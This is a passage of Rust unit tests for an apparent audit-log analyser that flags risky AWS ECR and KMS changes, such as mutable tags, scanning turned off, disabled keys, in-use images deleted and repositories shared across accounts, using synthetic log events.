            .map(|a| (a.severity, a.title, a.events))
            .collect();
        got.sort();
        got
    };
    let registry = format!("registry {ACCOUNT} in {REGION}");
    let all = items(&Filter::default());
    assert_eq!(
        all,
        [
            // The change, prod's move, and the change back.
            (Severity::High, "Tags of repository web/api made mutable, then prod moved".to_owned(), 3),
            // The change and the push after it (to web/worker); the change and the push of v2.
            (Severity::Medium, format!("Image scanning turned off for ECR {registry}"), 2),
            (Severity::Medium, "Scan on push turned off for repository web/api".to_owned(), 2),
            // The change and the push of v3.
            (Severity::Medium, "Scan on push turned off for repository web/worker".to_owned(), 2),
            // The change and the deletion.
            (Severity::Medium, "Tags of repository web/old made mutable".to_owned(), 2),
            (Severity::Medium, "Tags of repository web/worker made mutable".to_owned(), 1),
            (Severity::Medium, "Tried to make tags of repository web/api mutable".to_owned(), 2),
        ]
    );
    // Only what the filter keeps: CI's own changes.
    let ci = Filter::default().with(Field::Principal, CI);
    let titles: Vec<String> = items(&ci).into_iter().map(|(_, t, _)| t).collect();
    assert_eq!(
        titles,
        [
            "Scan on push turned off for repository web/worker",
            "Tags of repository web/worker made mutable",
            "Tried to make tags of repository web/api mutable"
        ]
    );
    // The reasons say what was there before, what happened while it held, and when it ended.
    let c = crate::analysis::filter::Compiled::new(&Filter::default(), e.store());
    let r = report(e.store(), c.rows());
    let why = |title: &str| r.attention.rows.iter().find(|a| a.title.starts_with(title)).unwrap().why.clone();
    let api = why("Tags of repository web/api");
    let utc = |s: i64| crate::text::utc(crate::model::time::parse_iso(&time(s)).unwrap());
    assert!(api.contains(&format!("to MUTABLE from IMMUTABLE (set by CreateRepository at {})", utc(0))), "{api}");
    assert!(
        api.contains(
            "1 push moved a tag: prod from sha256:one to sha256:two by arn:aws:iam::111122223333:user/Mary_Major"
        ),
        "{api}"
    );
    assert!(api.contains(&format!("It was set to IMMUTABLE at {} by {MARY} (20 s later)", utc(40))), "{api}");
    let old = why("Tags of repository web/old");
    assert!(old.contains(&format!("It was deleted with its repository at {} by {MARY} (1 s later)", utc(4))), "{old}");
    let worker = why("Tags of repository web/worker");
    assert!(worker.contains("(the setting before is not in these logs)"), "{worker}");
    assert!(worker.contains("No push moved a tag"), "{worker}");
    assert!(why("Scan on push turned off for repository web/api").contains("from on (set by CreateRepository"));
    // The item narrows to the repository from the change to the change back.
    let item = r.attention.rows.iter().find(|a| a.title.starts_with("Tags of repository web/api")).unwrap();
    let at = |s: i64| crate::model::time::parse_iso(&time(s)).unwrap();
    assert_eq!(item.range, Some((at(20), at(41))));
    // The exclusion filters are in the change's lines.
    let lines: Vec<String> = e
        .store()
        .container
        .all()
        .filter_map(|f| match f.kind {
            crate::facts::container::Kind::RepoChange { lines, .. } => Some(lines),
            _ => None,
        })
        .flat_map(|s| e.store().container.syms(s).iter().map(|&l| e.store().str(l).into_owned()).collect::<Vec<_>>())
        .collect();
    assert!(lines.contains(&"tags matching \"dev-*\" stay mutable".to_owned()), "{lines:?}");
    // The repository's page marks the changes that went through and turned a protection down.
    let ContainerAnswer::Repository(Some(page)) = ask(&e, Filter::default(), Ask::Repository(repo("web/api"))) else {
        panic!()
    };
    let marked: Vec<(&str, &str, bool)> =
        page.changes.iter().map(|c| (c.call.as_str(), c.lowered.as_str(), c.error_code.is_empty())).collect();
    assert_eq!(
        marked,
        [
            ("CreateRepository", "", true),
            ("PutImageTagMutability", "tags made mutable", true),
            ("PutImageTagMutability", "", true),
            ("PutImageTagMutability", "", false),
            ("PutImageTagMutability", "", false),
            ("PutImageScanningConfiguration", "scan on push turned off", true),
        ]
    );
    let ContainerAnswer::Registry(page) = ask(&e, Filter::default(), Ask::Registry { offset: 0 }) else { panic!() };
    assert_eq!(page.items[0].change.lowered, "scanning turned off");
    // The push that moved prod while the tags were mutable says since when and by whom; no other.
    let unguarded: Vec<(String, Option<(i64, String)>)> = pushes(&e)
        .into_iter()
        .filter(|p| p.unguarded.is_some() || p.tag == "latest")
        .map(|p| (p.tag, p.unguarded))
        .collect();
    assert_eq!(unguarded, [("latest".to_owned(), None), ("prod".to_owned(), Some((at(20), MARY.to_owned())))]);
}

#[test]
fn ok_a_repositorys_kms_key_turned_off_needs_attention_and_is_on_its_page() {
    use crate::analysis::identity::{report, AttentionKind, Severity};
    // Requests as the ECR API reference and the KMS developer guide write them: a key named by ARN
    // when the repository is made, by ID when disabled.
    const KEY: &str = "1234abcd-12ab-34cd-56ef-1234567890ab";
    let arn = format!("arn:aws:kms:{REGION}:{ACCOUNT}:key/{KEY}");
    let mut l = Log::new();
    let create = |l: &mut Log, at, name: &str, key: &str| {
        let req = json!({"repositoryName": name, "encryptionConfiguration": {"encryptionType": "KMS", "kmsKey": key}});
        l.ecr(at, "CreateRepository", CI, req, Value::Null);
    };
    create(&mut l, 0, "web/secure", &arn);
    create(&mut l, 1, "web/also", &arn);
    create(&mut l, 2, "web/other", &format!("arn:aws:kms:{REGION}:{ACCOUNT}:key/0987dcba-09fe-87dc-65ba-ab0987654321"));
    // Made to encrypt with "KMS" alone: the grant ECR asks for names the key (as the ECR user
    // guide's CreateGrant example logs it).
    l.ecr(
        3,
        "CreateRepository",
        CI,
        json!({"repositoryName": "web/granted", "encryptionConfiguration": {"encryptionType": "KMS"}}),
        Value::Null,
    );
    let grant = json!({"keyId": KEY, "granteePrincipal": format!("ecr.{REGION}.amazonaws.com"), "operations": ["GenerateDataKey", "Decrypt"],
        "retiringPrincipal": format!("ecr.{REGION}.amazonaws.com"),
        "constraints": {"encryptionContextSubset": {"aws:ecr:arn": format!("arn:aws:ecr:{REGION}:{ACCOUNT}:repository/web/granted")}}});
    l.add(3, "kms.amazonaws.com", "CreateGrant", CI, grant, json!({"grantId": "3636af9a"}));
    l.add(10, "kms.amazonaws.com", "DisableKey", MARY, json!({"keyId": KEY}), Value::Null);
    l.add(20, "kms.amazonaws.com", "EnableKey", MARY, json!({"keyId": arn}), Value::Null);
    let refused = l.add(
        30,
        "kms.amazonaws.com",
        "ScheduleKeyDeletion",
        CI,
        json!({"keyId": KEY, "pendingWindowInDays": 7}),
        Value::Null,
    );
    refused["errorCode"] = json!("AccessDeniedException");
    // Another key, which no repository names.
    l.add(
        40,
        "kms.amazonaws.com",
        "DisableKey",
        MARY,
        json!({"keyId": "5555aaaa-0000-4000-8000-000000000000"}),
        Value::Null,
    );
    let e = l.engine();
    let c = crate::analysis::filter::Compiled::new(&Filter::default(), e.store());
    let r = report(e.store(), c.rows());
    let mut got: Vec<(Severity, &str, u64)> = r
        .attention
        .rows
        .iter()
        .filter(|a| a.kind == AttentionKind::EcrProtectionLowered)
        .map(|a| (a.severity, a.title.as_str(), a.events))
        .collect();
    got.sort();
    // The call and the key enabled again; the refused one.
    let want = [
        (Severity::High, "KMS key of 3 repositories disabled", 2),
        (Severity::Medium, "Tried to turn off the KMS key of repository web/secure", 1),
    ];
    assert_eq!(got, want);
    let item = r.attention.rows.iter().find(|a| a.severity == Severity::High).unwrap();
    let utc = |s: i64| crate::text::utc(crate::model::time::parse_iso(&time(s)).unwrap());
    assert!(item.why.contains(&format!("left KMS key {KEY} disabled: repository web/secure")), "{}", item.why);
    assert!(item.why.contains("and 2 more (web/also, web/granted)"), "{}", item.why);
    assert!(item.why.contains(&format!("It was enabled again at {} by {MARY}", utc(20))), "{}", item.why);
    // Both repositories' pages list the calls to their key; the other's does not.
    let calls = |name: &str| {
        let ContainerAnswer::Repository(Some(page)) = ask(&e, Filter::default(), Ask::Repository(repo(name))) else {
            panic!()
        };
        page.changes.iter().map(|c| (c.call.clone(), c.lowered.clone(), c.error_code.clone())).collect::<Vec<_>>()
    };
    let on_page = [
        ("CreateRepository".to_owned(), String::new(), String::new()),
        ("DisableKey".to_owned(), "KMS key disabled".to_owned(), String::new()),
        ("ScheduleKeyDeletion".to_owned(), String::new(), "AccessDeniedException".to_owned()),
    ];
    assert_eq!(calls("web/secure"), on_page);
    assert_eq!(calls("web/also"), on_page);
    let granted: Vec<String> =
        calls("web/granted").into_iter().map(|(call, lowered, _)| call + " " + &lowered).collect();
    assert_eq!(granted, ["CreateRepository ", "CreateGrant ", "DisableKey KMS key disabled", "ScheduleKeyDeletion "]);
    assert_eq!(calls("web/other").len(), 1);
}

/// The attention items of `kind` over every event of `l`.
fn attention_of(l: &Log, kind: crate::analysis::identity::AttentionKind) -> Vec<crate::analysis::identity::Attention> {
    let e = l.engine();
    let store = e.store();
    let all = crate::analysis::identity::report(store, 0..store.len() as crate::store::Row).attention.rows;
    all.into_iter().filter(|a| a.kind == kind).collect()
}

/// Each item's (title, severity, principal), sorted.
fn titles(items: &[crate::analysis::identity::Attention]) -> Vec<(&str, crate::analysis::identity::Severity, &str)> {
    let mut out: Vec<_> = items.iter().map(|a| (a.title.as_str(), a.severity, a.who.as_str())).collect();
    out.sort_unstable();
    out
}

/// An image an ECS service runs (its deployment's task definition names it by tag, resolved
/// through the pushes) deleted by `BatchDeleteImage`, or with its repository, two days after its
/// push: an item naming the service; images no service runs, a service scaled to none or deleted,
/// and an image pushed less than a day before (the soon-deleted item's) are none.
#[test]
fn ok_an_image_deleted_while_a_service_runs_it_is_an_attention_item() {
    use crate::analysis::identity::{AttentionKind, Severity};
    let mut l = Log::new();
    let delete = |l: &mut Log, at: i64, who: &str, repo: &str, digests: &[&str]| {
        let ids: Vec<Value> = digests.iter().map(|d| json!({"imageDigest": d})).collect();
        l.ecr(
            at,
            "BatchDeleteImage",
            who,
            json!({"repositoryName": repo, "registryId": ACCOUNT, "imageIds": ids}),
            json!({"imageIds": ids, "failures": []}),
        );
    };
    let deploy = |l: &mut Log, at: i64, repo: &str, family: &str| {
        l.task_def(at, CI, (family, 1), &image_uri(repo, ":v1"));
        l.service(at + 5, CI, ("CreateService", family), &format!("{family}:1"), Some(2));
    };
    // api runs web/api:v1; v2 is pushed and not deployed.
    l.put(0, CI, "web/api", "v1", "sha256:v1", &[]);
    deploy(&mut l, 10, "web/api", "api");
    l.put(30, CI, "web/api", "v2", "sha256:v2", &[]);
    // idle is scaled to no task; gone is deleted; batch's repository is deleted with it.
    l.put(0, CI, "web/idle", "v1", "sha256:idle", &[]);
    deploy(&mut l, 40, "web/idle", "idle");
    l.service(50, CI, ("UpdateService", "idle"), "", Some(0));
    l.put(0, CI, "web/gone", "v1", "sha256:gone", &[]);
    deploy(&mut l, 60, "web/gone", "gone");
    l.service(70, CI, ("DeleteService", "gone"), "", None);
    l.put(0, CI, "web/batch", "v1", "sha256:batch", &[]);
    deploy(&mut l, 80, "web/batch", "batch");
    let days = 2 * 86_400;
    delete(&mut l, days, OTHER, "web/api", &["sha256:v1", "sha256:v2"]);
    delete(&mut l, days, OTHER, "web/idle", &["sha256:idle"]);
    delete(&mut l, days, OTHER, "web/gone", &["sha256:gone"]);
    let force = json!({"repositoryName": "web/batch", "registryId": ACCOUNT, "force": true});
    l.ecr(days + 10, "DeleteRepository", MARY, force, json!({"repository": {"repositoryName": "web/batch"}}));
    // A hotfix deployed and deleted within the hour: the soon-deleted item's.
    l.put(days, MARY, "web/hot", "v1", "sha256:hot", &[]);
    deploy(&mut l, days + 60, "web/hot", "hot");
    delete(&mut l, days + 3600, MARY, "web/hot", &["sha256:hot"]);
    let items = attention_of(&l, AttentionKind::ImageInUseDeleted);
    assert_eq!(
        titles(&items),
        [
            ("Service api's image deleted", Severity::High, OTHER),
            ("Service batch's repository web/batch deleted", Severity::High, MARY),
        ]
    );
    let api = &items.iter().find(|a| a.who == OTHER).unwrap().why;
    let told = format!(
        "BatchDeleteImage at 2026-03-03 10:00:00 UTC from 203.0.113.12 with docker deleted from repository web/api \
         ({ACCOUNT}, {REGION}) 1 image an ECS service was running: sha256:v1 (tag v1), run by service api of cluster \
         prod (CreateService at 2026-03-01 10:00:15 UTC by {CI}). ECS starts each new task"
    );
    assert!(api.starts_with(&told), "{api}");
    assert_eq!(attention_of(&l, AttentionKind::ImageErased).len(), 1, "the hotfix is the soon-deleted item's");
}

#[test]
fn ok_an_image_deleted_soon_after_its_push_is_an_attention_item() {
    use crate::analysis::identity::{AttentionKind, Severity};
    let mut l = Log::new();
    // Mary pushes a tool, a task and another account pull it, and Mary deletes it 10 minutes on.
    l.put(0, MARY, "web/api", "tool", "sha256:evil", &[("sha256:l1", 10)]);
    l.get(60, TASKS, "web/api", json!({"imageTag": "tool"}));
    l.layer_url(61, TASKS, "web/api", "sha256:l1");
    l.get(120, OTHER, "web/api", json!({"imageDigest": "sha256:evil"}));
    let delete = |l: &mut Log, at: i64, who: &str, repo: &str, digest: &str| {
        l.ecr(
            at,
            "BatchDeleteImage",
            who,
            json!({"repositoryName": repo, "registryId": ACCOUNT, "imageIds": [{"imageDigest": digest}]}),
            json!({"imageIds": [{"imageDigest": digest}], "failures": []}),
        );
    };
    delete(&mut l, 600, MARY, "web/api", "sha256:evil");
    // CI's throwaway image, deleted half an hour on unpulled; an old one deleted two days on; a
    // deletion refused.
    l.put(0, CI, "web/worker", "pr-1", "sha256:tmp", &[]);
    delete(&mut l, 1800, CI, "web/worker", "sha256:tmp");
    l.put(0, CI, "web/cache", "old", "sha256:old", &[]);
    delete(&mut l, 2 * 86_400, CI, "web/cache", "sha256:old");
    l.put(0, CI, "web/db", "v1", "sha256:db", &[]);
    l.fail(
        60,
        "BatchDeleteImage",
        OTHER,
        json!({"repositoryName": "web/db", "imageIds": [{"imageDigest": "sha256:db"}]}),
        "AccessDeniedException",
    );
    // A repository of two recent images, one deleted first (an item of its own), deleted with the
    // other; one whose deletion was refused.
    l.put(0, CI, "web/tmp", "a", "sha256:t1", &[]);
    l.put(10, CI, "web/tmp", "b", "sha256:t2", &[]);
    delete(&mut l, 20, CI, "web/tmp", "sha256:t1");
    let gone = |l: &mut Log, at: i64, repo: &str| {
        l.ecr(
            at,
            "DeleteRepository",
            MARY,
            json!({"repositoryName": repo, "registryId": ACCOUNT, "force": true}),
            json!({"repository": {"repositoryName": repo, "registryId": ACCOUNT}}),
        );
    };
    gone(&mut l, 900, "web/tmp");
    l.fail(900, "DeleteRepository", MARY, json!({"repositoryName": "web/db", "force": true}), "AccessDeniedException");
    // Mary pushes a hotfix, deploys a service with it by digest, and deletes it: nobody else
    // pulled it (the tasks' pulls are not in these logs), but it runs.
    l.put(0, MARY, "web/svc", "hotfix", "sha256:hot", &[]);
    l.task_def(100, MARY, ("svc", 4), &image_uri("web/svc", "@sha256:hot"));
    l.service(110, MARY, ("UpdateService", "svc"), "svc:4", None);
    delete(&mut l, 300, MARY, "web/svc", "sha256:hot");
    let items = attention_of(&l, AttentionKind::ImageErased);
    let titles = titles(&items);
    assert_eq!(
        titles,
        [
            ("Image deleted 10 min after its push to web/api", Severity::High, MARY),
            ("Image deleted 20 s after its push to web/tmp", Severity::Medium, CI),
            ("Image deleted 30 min after its push to web/worker", Severity::Medium, CI),
            ("Image deleted 5 min after its push to web/svc", Severity::High, MARY),
            ("Repository web/tmp deleted with 1 image pushed within a day", Severity::Medium, MARY),
        ]
    );
    let svc = &items.iter().find(|a| a.title.ends_with("web/svc")).unwrap().why;
    let told = format!(
        "sha256:hot (tag hotfix), pushed by {MARY} at 2026-03-01 10:00:00 UTC, 5 min before; not pulled meanwhile; \
         deployed meanwhile on service svc of cluster prod (UpdateService at 2026-03-01 10:01:50 UTC by {MARY})"
    );
    assert!(svc.contains(&told), "{svc}");
    let tmp = &items.iter().find(|a| a.title.starts_with("Repository web/tmp")).unwrap().why;
    assert!(tmp.starts_with("DeleteRepository at 2026-03-01 10:15:00 UTC deleted repository web/tmp"), "{tmp}");
    assert!(tmp.contains("sha256:t2 (tag b), pushed by") && !tmp.contains("sha256:t1"), "{tmp}");
    let api = &items.iter().find(|a| a.title.ends_with("web/api")).unwrap().why;
    let told = format!(
        "sha256:evil (tag tool), pushed by {MARY} at 2026-03-01 10:00:00 UTC, 10 min before; pulled meanwhile by {TASKS} (1×), {OTHER} (1×)"
    );
    assert!(api.contains(&told), "{api}");
    let worker = &items.iter().find(|a| a.title.ends_with("web/worker")).unwrap().why;
    assert!(worker.contains("sha256:tmp (tag pr-1), pushed by") && worker.contains("not pulled meanwhile"), "{worker}");
}

/// A lifecycle policy as the ECR API reference's `PutLifecyclePolicy` takes it: one rule that
/// expires images of `tag_status` pushed more than a day before.
/// ECS documents that `UpdateService` with only a new `desiredCount` adds or removes tasks of the
/// service's current deployment, and that `forceNewDeployment` starts a deployment of the same
/// task definition; a deployment resolves the tags its task definition names to images.
#[test]
fn a_scaling_of_a_service_is_not_a_deployment_a_forced_one_is() {
    // A service deployed with `latest`, which then moved to another image.
    let deployed = || {
        let mut l = Log::new();
        l.put(0, CI, "web/app", "latest", "sha256:app-1", &[]);
        l.task_def(10, CI, ("app", 1), &image_uri("web/app", ":latest"));
        l.service(20, CI, ("CreateService", "app"), "app:1", Some(2));
        l.put(100, CI, "web/app", "latest", "sha256:app-2", &[]);
        l
    };
    let mut l = deployed();
    // Scaled up and given a longer grace period after the tag moved: the response names the
    // task definition the service runs, as ECS's responses do.
    l.update_service(200, MARY, "app", json!({"desiredCount": 4, "healthCheckGracePeriodSeconds": 60}), "app:1");
    set_lifecycle(&mut l, 300, MARY, "web/app", "untagged");
    l.lifecycle(400, "PolicyExecutionEvent", "web/app", "pol-1", &[("sha256:app-1", "")]);
    let e = l.engine();
    let ContainerAnswer::Headline(h) = ask(&e, Filter::default(), Ask::Headline) else { panic!() };
    assert_eq!(h.deployments, 1);
    // The expired image is what the service's tasks still run.
    let run_by = |e: &crate::engine::Engine| -> Vec<(String, Vec<String>)> {
        let ContainerAnswer::Lifecycle(runs) = ask(e, Filter::default(), Ask::Lifecycle { offset: 0 }) else {
            panic!()
        };
        runs.items.iter().flat_map(|r| r.images.iter().map(|i| (i.digest.clone(), i.run_by.clone()))).collect()
    };
    assert_eq!(run_by(&e), [("sha256:app-1".to_owned(), vec!["app (cluster prod)".to_owned()])]);
    let ContainerAnswer::Deployments(list) = ask(&e, Filter::default(), Ask::Deployments { offset: 0 }) else {
        panic!()
    };
    let scaled = list.items.iter().find(|i| i.call == "UpdateService").expect("the scaling is listed");
    assert!(scaled.scaled_only && scaled.images.is_empty(), "{scaled:?}");
    assert_eq!((scaled.task_definition.as_str(), scaled.desired), ("app:1", Some(4)));

    // A forced deployment of the same task definition resolves `latest` anew.
    let mut l2 = deployed();
    l2.update_service(200, MARY, "app", json!({"forceNewDeployment": true}), "app:1");
    set_lifecycle(&mut l2, 300, MARY, "web/app", "untagged");
    l2.lifecycle(400, "PolicyExecutionEvent", "web/app", "pol-1", &[("sha256:app-1", "")]);
    let e = l2.engine();
    let ContainerAnswer::Headline(h) = ask(&e, Filter::default(), Ask::Headline) else { panic!() };
    assert_eq!(h.deployments, 2);
    assert_eq!(run_by(&e), [("sha256:app-1".to_owned(), Vec::new())]);
    let ContainerAnswer::Deployments(list) = ask(&e, Filter::default(), Ask::Deployments { offset: 0 }) else {
        panic!()
    };
    let forced = list.items.iter().find(|i| i.call == "UpdateService").expect("the deployment is listed");
    let digests: Vec<&str> = forced.images.iter().map(|u| u.digest.as_str()).collect();
    assert_eq!((forced.scaled_only, digests), (false, vec!["sha256:app-2"]));
}

fn set_lifecycle(l: &mut Log, at: i64, who: &str, repo: &str, tag_status: &str) {
    let text = json!({"rules": [{"rulePriority": 1, "description": "sweep", "selection": {"tagStatus": tag_status,
        "countType": "sinceImagePushed", "countUnit": "days", "countNumber": 1}, "action": {"type": "expire"}}]})
    .to_string();
    l.ecr(
        at,
        "PutLifecyclePolicy",
        who,
        json!({"repositoryName": repo, "registryId": ACCOUNT, "lifecyclePolicyText": text}),
        json!({"repositoryName": repo, "registryId": ACCOUNT, "lifecyclePolicyText": text}),
    );
}

#[test]
fn a_new_lifecycle_policy_that_expired_tagged_images_or_images_in_use_is_an_item() {
    use crate::analysis::identity::{AttentionKind, Severity};
    let mut l = Log::new();
    // Three images, one of them pulled by a task; a policy set over them, run an hour on.
    l.put(0, CI, "web/api", "prod", "sha256:prod", &[]);
    l.put(10, CI, "web/api", "v1", "sha256:old", &[]);
    // v1 moved to another image: the one it named is left untagged.
    l.put(20, CI, "web/api", "v1", "sha256:v1", &[]);
    l.get(100, TASKS, "web/api", json!({"imageDigest": "sha256:prod"}));
    // A pull of more than a week before the run does not make an image in use.
    l.get(-8 * 86_400, TASKS, "web/api", json!({"imageDigest": "sha256:v1"}));
    l.lifecycle(500, "PolicyExecutionEvent", "web/api", "pol-0", &[("sha256:before", "gone")]);
    set_lifecycle(&mut l, 1000, MARY, "web/api", "any");
    // Another change of the repository does not end the policy.
    l.ecr(
        2000,
        "PutImageScanningConfiguration",
        MARY,
        json!({"repositoryName": "web/api", "imageScanningConfiguration": {"scanOnPush": true}}),
        Value::Null,
    );
    l.lifecycle(4600, "PolicyExecutionEvent", "web/api", "pol-1", &[("sha256:prod", "prod"), ("sha256:v1", "v1")]);
    l.lifecycle(4601, "PolicyExecutionEvent", "web/api", "pol-1", &[("sha256:old", "")]);
    // Tidying: untagged images, not pulled.
    set_lifecycle(&mut l, 0, CI, "web/tidy", "untagged");
    l.lifecycle(3600, "PolicyExecutionEvent", "web/tidy", "pol-2", &[("sha256:u1", ""), ("sha256:u2", "")]);
    // Runs after the first two days are the routine; so is a preview, which deleted nothing.
    set_lifecycle(&mut l, 0, CI, "web/late", "any");
    l.lifecycle(60, "DryRunEvent", "web/late", "pol-3", &[("sha256:l0", "v0")]);
    l.lifecycle(3 * 86_400, "PolicyExecutionEvent", "web/late", "pol-3", &[("sha256:l1", "v1")]);
    // A policy changed again before the run: the run is the later one's; a refused one is none.
    set_lifecycle(&mut l, 0, MARY, "web/redo", "any");
    set_lifecycle(&mut l, 60, CI, "web/redo", "any");
    l.fail(
        120,
        "PutLifecyclePolicy",
        OTHER,
        json!({"repositoryName": "web/redo", "lifecyclePolicyText": "{}"}),
        "AccessDeniedException",
    );
    l.lifecycle(3600, "PolicyExecutionEvent", "web/redo", "pol-4", &[("sha256:r1", "r1")]);
    let items = attention_of(&l, AttentionKind::LifecycleExpired);
    let titles = titles(&items);
    assert_eq!(
        titles,
        [
            ("New lifecycle policy of web/api expired 1 image in use", Severity::High, MARY),
            ("New lifecycle policy of web/redo expired 1 tagged image", Severity::Medium, CI),
        ]
    );
    let api = &items[0].why;
    let api = if items[0].title.contains("web/api") { api } else { &items[1].why };
    assert!(
        api.starts_with("PutLifecyclePolicy at 2026-03-01 10:16:40 UTC set the lifecycle policy of repository web/api"),
        "{api}"
    );
    assert!(api.contains("rule 1: expire any images, pushed more than 1 day ago (sweep)"), "{api}");
    assert!(
        api.contains("expired 3 images (2 tagged, 1 in use: pulled in the week before or run by an ECS service)"),
        "{api}"
    );
    let prod = format!(
        "sha256:prod (tag prod), expired at 2026-03-01 11:16:40 UTC, pushed by {CI} at 2026-03-01 10:00:00 UTC, pulled in the week before by {TASKS} (1×); "
    );
    assert!(api.contains(&prod), "{api}");
    assert!(
        api.contains("sha256:v1 (tag v1), expired at") && api.contains("sha256:old (untagged), expired at"),
        "{api}"
    );
    assert!(api.contains("at 2026-03-01 10:00:20 UTC, not pulled in the week before"), "{api}");
    assert!(!api.contains("sha256:before"), "{api}");
    // In use first, then tagged, then the rest.
    let at = |d: &str| api.find(d).unwrap();
    assert!(at("sha256:prod") < at("sha256:v1") && at("sha256:v1") < at("sha256:old"), "{api}");
}

#[test]
fn a_lifecycle_run_names_the_policy_change_it_applied_and_how_often_each_image_was_pulled() {
    let mut l = Log::new();
    l.put(0, CI, "web/api", "prod", "sha256:prod", &[]);
    l.put(10, CI, "web/api", "v1", "sha256:v1", &[]);
    // Pulled by tag twice and by digest once within the week, once eight days before, and a
    // refused pull: three pulls count.
    l.get(-8 * 86_400, TASKS, "web/api", json!({"imageTag": "prod"}));
    l.get(100, TASKS, "web/api", json!({"imageTag": "prod"}));
    l.get(200, OTHER, "web/api", json!({"imageDigest": "sha256:prod"}));
    l.get(300, TASKS, "web/api", json!({"imageTag": "prod"}));
    l.fail(
        400,
        "BatchGetImage",
        OTHER,
        json!({"repositoryName": "web/api", "imageIds": [{"imageTag": "prod"}]}),
        "AccessDeniedException",
    );
    set_lifecycle(&mut l, 500, CI, "web/api", "untagged");
    set_lifecycle(&mut l, 1000, MARY, "web/api", "any");
    l.fail(
        1500,
        "PutLifecyclePolicy",
        OTHER,
        json!({"repositoryName": "web/api", "lifecyclePolicyText": "{}"}),
        "AccessDeniedException",
    );
    l.lifecycle(4600, "PolicyExecutionEvent", "web/api", "pol-1", &[("sha256:prod", "prod"), ("sha256:v1", "v1")]);
    // A policy deleted: a later run's policy is not the one set before the deletion.
    set_lifecycle(&mut l, 0, MARY, "web/old", "any");
    l.ecr(
        60,
        "DeleteLifecyclePolicy",
        MARY,
        json!({"repositoryName": "web/old"}),
        json!({"repositoryName": "web/old"}),
    );
    l.lifecycle(3600, "PolicyExecutionEvent", "web/old", "pol-2", &[("sha256:o1", "o1")]);
    let e = l.engine();
    let ContainerAnswer::Lifecycle(runs) = ask(&e, Filter::default(), Ask::Lifecycle { offset: 0 }) else { panic!() };
    let api = runs.items.iter().find(|r| r.repo.name == "web/api").expect("the run of web/api");
    let set = api.policy_set.as_ref().expect("the policy's change");
    assert_eq!(
        (set.call.as_str(), set.who.principal.as_str(), set.time),
        ("PutLifecyclePolicy", MARY, api.start - 3_600_000)
    );
    let pulls: Vec<(&str, u32)> = api.images.iter().map(|i| (i.digest.as_str(), i.pulled_before)).collect();
    assert_eq!(pulls, [("sha256:prod", 3), ("sha256:v1", 0)]);
    let old = runs.items.iter().find(|r| r.repo.name == "web/old").expect("the run of web/old");
    assert_eq!(old.policy_set, None);
}

/// `SetRepositoryPolicy` as the ECR API reference writes it, letting `account` pull and push.
fn set_policy(l: &mut Log, at: i64, repo: &str, account: &str) {
    let text = json!({"Version": "2012-10-17", "Statement": [{"Sid": "share", "Effect": "Allow",
        "Principal": {"AWS": format!("arn:aws:iam::{account}:root")},
        "Action": ["ecr:BatchGetImage", "ecr:GetDownloadUrlForLayer", "ecr:PutImage"]}]})
    .to_string();
    l.ecr(
        at,
        "SetRepositoryPolicy",
        MARY,
        json!({"repositoryName": repo, "registryId": ACCOUNT, "policyText": text}),
        json!({"repositoryName": repo, "registryId": ACCOUNT, "policyText": text}),
    );
}

#[test]
fn a_repository_opened_to_another_account_names_who_of_it_came_in_until_it_was_closed() {
    use crate::analysis::identity::{AttentionKind, Severity};
    const STRANGER: &str = "arn:aws:sts::444455556666:assumed-role/Builder/session";
    const ROLE_ELSEWHERE: &str = "arn:aws:sts::444455556666:assumed-role/Reader/session";
    let mut l = Log::new();
    l.put(0, CI, "web/api", "prod", "sha256:prod", &[]);
    // Before the policy: not through it.
    l.get(50, OTHER, "web/api", json!({"imageTag": "prod"}));
    set_policy(&mut l, 100, "web/api", "444455556666");
    l.get(200, OTHER, "web/api", json!({"imageTag": "prod"}));
    l.get(250, TASKS, "web/api", json!({"imageTag": "prod"}));
    l.get(300, OTHER, "web/api", json!({"imageDigest": "sha256:prod"}));
    l.fail(
        320,
        "BatchGetImage",
        STRANGER,
        json!({"repositoryName": "web/api", "imageIds": [{"imageTag": "prod"}]}),
        "AccessDeniedException",
    );
    l.put(350, STRANGER, "web/api", "evil", "sha256:evil", &[]);
    // A tag these logs never saw pushed: an image they cannot name.
    l.get(360, ROLE_ELSEWHERE, "web/api", json!({"imageTag": "v0"}));
    // Closed: a policy of the account's own, then a pull that is not through the opening.
    set_policy(&mut l, 400, "web/api", ACCOUNT);
    l.get(500, OTHER, "web/api", json!({"imageTag": "prod"}));
    set_policy(&mut l, 100, "web/quiet", "444455556666");
    let items = attention_of(&l, AttentionKind::EcrOpened);
    assert_eq!(
        titles(&items),
        [
            ("Repository web/api opened to other accounts", Severity::High, MARY),
            ("Repository web/quiet opened to other accounts", Severity::Medium, MARY),
        ]
    );
    let api = &items.iter().find(|a| a.title.contains("web/api")).unwrap().why;
    let came = format!(
        " Then 3 principals of another account came in: by {OTHER} (2 pulls, of 1 image, from 203.0.113.12, between \
         2026-03-01 10:03:20 UTC and 2026-03-01 10:05:00 UTC); by {STRANGER} (1 push, of 1 image, from 203.0.113.12, at \
         2026-03-01 10:05:50 UTC); by {ROLE_ELSEWHERE} (1 pull, from 203.0.113.12, at 2026-03-01 10:06:00 UTC). It was \
         closed again at 2026-03-01 10:06:40 UTC (SetRepositoryPolicy)."
    );
    assert!(api.ends_with(&came), "{api}");
    let quiet = &items.iter().find(|a| a.title.contains("web/quiet")).unwrap().why;
    assert!(
        quiet.ends_with(" No principal of another account pulled from it or pushed to it in these logs after it."),
        "{quiet}"
    );
}

#[test]
fn a_repositorys_kms_key_whose_deletion_was_cancelled_says_it_was_kept() {
    use crate::analysis::identity::{AttentionKind, Severity};
    // As the KMS developer guide logs them: a deletion scheduled, then cancelled by someone else;
    // the key of another repository scheduled and left so.
    const KEY: &str = "1234abcd-12ab-34cd-56ef-1234567890ab";
    const OTHER_KEY: &str = "0987dcba-09fe-87dc-65ba-ab0987654321";
    let mut l = Log::new();
    for (name, key) in [("web/kept", KEY), ("web/gone", OTHER_KEY)] {
        let req = json!({"repositoryName": name, "encryptionConfiguration": {"encryptionType": "KMS",
            "kmsKey": format!("arn:aws:kms:{REGION}:{ACCOUNT}:key/{key}")}});
        l.ecr(0, "CreateRepository", CI, req, Value::Null);
    }
    let schedule = json!({"keyId": KEY, "pendingWindowInDays": 30});
    l.add(
        10,
        "kms.amazonaws.com",
        "ScheduleKeyDeletion",
        CI,
        schedule,
        json!({"keyId": KEY, "keyState": "PendingDeletion"}),
    );
    l.add(20, "kms.amazonaws.com", "CancelKeyDeletion", MARY, json!({"keyId": KEY}), json!({"keyId": KEY}));
    l.add(
        30,
        "kms.amazonaws.com",
        "ScheduleKeyDeletion",
        CI,
